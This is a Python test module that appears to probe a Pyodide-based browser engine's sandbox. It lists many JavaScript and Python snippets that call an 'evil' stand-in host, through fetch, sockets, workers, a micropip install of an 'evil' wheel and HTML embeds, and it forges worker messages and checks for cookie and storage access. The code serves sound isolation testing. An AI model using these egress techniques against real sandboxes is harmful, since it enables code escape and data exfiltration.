"""What hostile code in the browser engine tries: each probe asks two servers for a path that bears its name."""

from __future__ import annotations

import json

IN_A_WORKER = {
    "fetch": "fetch(url).catch(() => 0)",
    "fetch-no-cors": "fetch(url, { mode: 'no-cors', credentials: 'include' }).catch(() => 0)",
    "fetch-post": "fetch(url, { method: 'POST', mode: 'no-cors', body: 'x', keepalive: true }).catch(() => 0)",
    "xhr": "const xhr = new XMLHttpRequest(); xhr.open('GET', url); xhr.send()",
    "xhr-sync": "const xhr = new XMLHttpRequest(); xhr.open('GET', url, false); xhr.send()",
    "websocket": "new WebSocket(url.replace('http', 'ws'))",
    "websocket-stream": "new WebSocketStream(url.replace('http', 'ws')).opened.catch(() => 0)",
    "webtransport": "new WebTransport(url.replace('http:', 'https:')).ready.catch(() => 0)",
    "event-source": "new EventSource(url)",
    "beacon": "navigator.sendBeacon(url, 'x')",
    "import-scripts": "importScripts(url)",
    "import-scripts-again": "WorkerGlobalScope.prototype.importScripts.call(self, url)",
    "import": "import(url).catch(() => 0)",
    "import-json": "import(url, { with: { type: 'json' } }).catch(() => 0)",
    "font": "const font = new FontFace('f', `url(${url})`); font.load().catch(() => 0); fonts.add(font)",
    "cache": "caches.open('c').then(cache => cache.add(url)).catch(() => 0)",
    "service-worker": "navigator.serviceWorker.register(url).catch(() => 0)",
    "location": "self.location = url",
    "open": "self.open(url)",
    "webrtc": "new RTCPeerConnection({ iceServers: [{ urls: url.replace('http://', 'stun:') }] })",
    "wasm": "WebAssembly.compileStreaming(fetch(url)).catch(() => 0)",
    "eval": "eval(`fetch('${url}')`)",
    "function": "Function(`fetch('${url}')`)()",
    # Firefox now and then hangs in a worker that makes another one; the last ones may then not be tried
    "import-static": "new Worker(URL.createObjectURL(new Blob([`import '${url}'`], "
    "{ type: 'text/javascript' })), { type: 'module' })",
    "worker": "new Worker(url)",
    "worker-module": "new Worker(url, { type: 'module' })",
    "worker-shared": "new SharedWorker(url)",
    "worker-of-blob": "new Worker(URL.createObjectURL(new Blob([`fetch('${url}')`])))",
    "worker-of-data": "new Worker('data:text/javascript,' + encodeURIComponent(`fetch('${url}')`))",
}
"""JavaScript that asks for ``url``, run in a worker of the code's own, where nothing was taken away."""

IN_PYTHON = {
    "js-fetch": "import js\nawait js.fetch(url)",
    "js-fetch-post": "import js\nfrom pyodide.ffi import to_js\n"
    "await js.fetch(url, to_js({'method': 'POST', 'mode': 'no-cors'}, dict_converter=js.Object.fromEntries))",
    "js-xhr": "import js\nxhr = js.XMLHttpRequest.new()\nxhr.open('GET', url, False)\nxhr.send()",
    "js-import-scripts": "import js\njs.importScripts(url)",
    "js-worker": "import js\njs.Worker.new(url)",
    "js-prototype": "import js\njs.WorkerGlobalScope.prototype.fetch.call(js.self, url)",
    "run-js": "from pyodide.code import run_js\nrun_js(f\"fetch('{url}')\")",
    "pyfetch": "from pyodide.http import pyfetch\nawait pyfetch(url)",
    "open-url": "from pyodide.http import open_url\nopen_url(url)",
    "requests": "import requests\nrequests.get(url, timeout=2)",
    "urllib": "import urllib.request\nurllib.request.urlopen(url, timeout=2)",
    "urllib3": "import urllib3\nurllib3.request('GET', url, timeout=2, retries=False)",
    "http-client": "import http.client\nfrom urllib.parse import urlsplit\n"
    "to = urlsplit(url)\nhttp.client.HTTPConnection(to.netloc, timeout=2).request('GET', to.path)",
    "socket": "import socket\nfrom urllib.parse import urlsplit\nto = urlsplit(url)\n"
    "s = socket.create_connection((to.hostname, to.port), timeout=2)\n"
    "s.sendall(f'GET {to.path} HTTP/1.0\\r\\n\\r\\n'.encode())",
    "asyncio": "import asyncio\nfrom urllib.parse import urlsplit\nto = urlsplit(url)\n"
    "await asyncio.wait_for(asyncio.open_connection(to.hostname, to.port), 2)",
    "micropip": "import micropip\nawait micropip.install(f'{url}/evil-1.0-py3-none-any.whl')",
    "load-package": "import pyodide_js\nawait pyodide_js.loadPackage(f'{url}/evil-1.0-py3-none-any.whl')",
    "pandas": "import pandas as pd\npd.read_csv(url)",
    "ctypes": "import ctypes\nctypes.CDLL(url)",
    "html": "from IPython.display import HTML, display\n"
    "display(HTML(f'<img src={url}><script src={url}></script><iframe src={url}></iframe>"
    '<link rel=stylesheet href={url}><svg><image href={url} /></svg><style>@import "{url}";</style>'
    '<div style="background: url({url})">x</div><video src={url} poster={url}></video>\'))',
    "svg": "from IPython.display import SVG, display\n"
    'display(SVG(f\'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}" /></svg>\'))',
    "javascript": "from IPython.display import Javascript, display\ndisplay(Javascript(f\"fetch('{url}')\"))",
    "markdown": "from IPython.display import Markdown, display\ndisplay(Markdown(f'![x]({url})'))",
    "image": "from IPython.display import Image, display\ndisplay(Image(url=url))",
    "asset": "import js\nfrom pyodide.ffi import to_js\n"
    "for number, name in enumerate((url, '../../../' + url.rsplit('/', 1)[1], '/' + url.rsplit('/', 1)[1])):\n"
    "    js.postMessage(to_js({'type': 'want', 'want': 1_000_000 + number, 'name': name}, "
    "dict_converter=js.Object.fromEntries))",
}
"""Python that asks for ``url``, in the worker of the engine."""

FORGED = """
import js
from pyodide.ffi import to_js
for message in (
    {"type": "end", "run": 999, "outcome": "{}", "files": []},
    {"type": "booted"}, {"type": "nonsense"}, {"type": "event", "event": "no json"}, {}, {"type": {}},
):
    js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
js.postMessage(None)
js.postMessage("text")
"""
"""Messages that the engine's own Python would not send."""

LOOK_AROUND = """
import js
for name in ("document", "localStorage", "parent", "top", "cookieStore", "caches", "indexedDB"):
    try:
        there = getattr(js, name, None) is not None
        opened = name == "indexedDB" and there and js.indexedDB.open("x")
    except Exception:
        there = False
    print(name, "there" if there else "missing")
print(js.location.origin, js.self.origin)
"""
"""Says which doors to the page there are."""


WORKERS = 3
"""How many run all of the JavaScript, each of them."""


def write_probes(evil: str, lab: str) -> dict[str, str]:
    """Return code for the engine by what it tries; both addresses end without a slash."""
    urls = {name: [f"{evil}/probe-{name}", f"{lab}/probe-{name}"] for name in (*IN_A_WORKER, *IN_PYTHON)}
    probes = {
        name: f"for url in {urls[name]}:\n    try:\n{_indent(code)}\n    except Exception: pass"
        for name, code in IN_PYTHON.items()
    }
    script = "\n".join(
        f"for (const url of {json.dumps(urls[name])}) {{ try {{ {code} }} catch {{}} }}"
        for name, code in IN_A_WORKER.items()
    )
    code = (
        "import js\nfrom pyodide.ffi import to_js\n"
        f"source = js.Blob.new(to_js([{script!r}]))\n"
        "worker = js.Worker.new(js.URL.createObjectURL(source))"
    )
    probes |= {f"in-a-worker-{number}": code for number in range(WORKERS)}
    return probes


def _indent(code: str) -> str:
    return "\n".join(f"        {line}" for line in code.splitlines())
